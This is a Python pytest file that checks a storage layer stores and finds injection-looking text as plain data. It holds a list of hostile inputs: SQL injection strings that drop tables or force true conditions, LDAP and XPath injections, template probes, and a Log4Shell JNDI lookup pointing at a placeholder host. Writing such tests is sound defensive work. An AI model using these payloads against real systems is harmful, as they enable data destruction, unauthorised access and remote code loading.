"""Texts that look like code are stored as they are, and found by themselves alone."""

from __future__ import annotations

import pytest
from stored import FULL_ACTIVITY, PROVIDER

from gateway.records import replace
from storage import Store

NAUGHTY = (
    "'; DROP TABLE activities; --",
    '" OR 1=1 --',
    "1) UNION SELECT sealed FROM payloads --",
    "%s %(at)s :row ? ${jndi:ldap://canary.example/a} {{7*7}} {0}",
    "*)(uid=*))(|(uid=*",
    "' or '1'='1' or //user",
    "\\'; SELECT pg_sleep(9) --",
    "a%_b",
)


@pytest.fixture
def kept(store: Store) -> Store:
    """A store with an activity of each as its own id and title."""
    naughty = [
        replace(FULL_ACTIVITY, activity_id=f"1999{n:05}", provider_activity_id=text, title=text)
        for n, text in enumerate(NAUGHTY)
    ]
    store.write(PROVIDER, lambda unit: unit.activities.add(naughty))
    return store


def test_what_looks_like_code_is_data(kept: Store) -> None:
    """Each is found by its own text, comes back as it was sent, and finds no other."""
    for text in NAUGHTY:
        [found] = kept.read(PROVIDER, lambda unit, text=text: unit.activities.find([], [text]))  # type: ignore[misc]
        assert (text, text) == (found.activity.title, found.activity.provider_activity_id)
    assert 8 == kept.copies.told().counts["activities"]
